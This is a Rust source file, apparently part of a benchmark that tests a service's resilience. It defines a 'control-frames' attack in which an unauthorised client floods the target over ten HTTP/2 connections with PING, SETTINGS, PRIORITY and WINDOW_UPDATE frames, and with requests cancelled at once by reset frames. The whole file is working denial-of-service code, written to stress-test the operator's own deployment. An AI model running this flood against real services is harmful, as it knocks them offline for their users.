use std::time::Instant;

use async_trait::async_trait;

use super::deployment::{Deployment, STRANGER};
use super::http2::{Http2, Kind, frame, get};
use super::{Attack, Gained, is_over, side_by_side, step};
use crate::error::BenchError;

/// HTTP/2 frames that ask for nothing and have to be worked off.
pub(super) struct ControlFrames;

const CONNECTIONS: usize = 10;
/// Frames that are sent together.
const TOGETHER: u32 = 1_000;
const WINDOW: u32 = 65_535;

#[async_trait]
impl Attack for ControlFrames {
    fn name(&self) -> &'static str {
        "control-frames"
    }

    fn what(&self) -> &'static str {
        "a client without a grant sends PING, SETTINGS, PRIORITY, WINDOW_UPDATE frames and requests that it takes back, as fast as it can"
    }

    async fn run(&self, target: &Deployment, end: Instant) -> Result<Gained, BenchError> {
        let stranger = target.client(STRANGER)?;
        side_by_side(CONNECTIONS, |number| {
            let stranger = stranger.from(Deployment::source(number));
            async move {
                let mut gained = Gained::default();
                while !is_over(end) {
                    let Some(Ok(connection)) = step(Http2::open(&stranger, WINDOW)).await else {
                        gained.count("connections refused");
                        tokio::time::sleep(super::PAUSE).await;
                        continue;
                    };
                    gained.count("connections");
                    flood(connection, number, end, &mut gained).await;
                }
                Ok(gained)
            }
        })
        .await
    }
}

/// Until the service ends the connection.
async fn flood(mut connection: Http2, kind: usize, end: Instant, gained: &mut Gained) {
    let mut stream = 1;
    while !is_over(end) {
        let frames: Vec<u8> = (0..TOGETHER)
            .flat_map(|_| {
                stream += 2;
                one(kind, stream)
            })
            .collect();
        let Some(Ok(())) = step(connection.send(&frames)).await else {
            gained.count("connections ended");
            return;
        };
        gained.add("frames", u64::from(TOGETHER));
        // The answers to what was sent: a full socket would only stop ourselves.
        connection.read_what_is_there().await;
    }
}

/// A frame, or a request with the frame that takes it back.
fn one(kind: usize, stream: u32) -> Vec<u8> {
    const CANCEL: [u8; 4] = [0, 0, 0, 8];
    match kind % 5 {
        0 => frame(Kind::Ping, 0, 0, &[0; 8]),
        1 => frame(Kind::Settings, 0, 0, &[]),
        2 => frame(Kind::Priority, 0, stream, &[0, 0, 0, 0, 1]),
        3 => frame(Kind::WindowUpdate, 0, 0, &[0, 0, 0, 1]),
        _ => {
            let mut both = get(stream, "/v1/keyspaces");
            both.extend(frame(Kind::Reset, 0, stream, &CANCEL));
            both
        }
    }
}
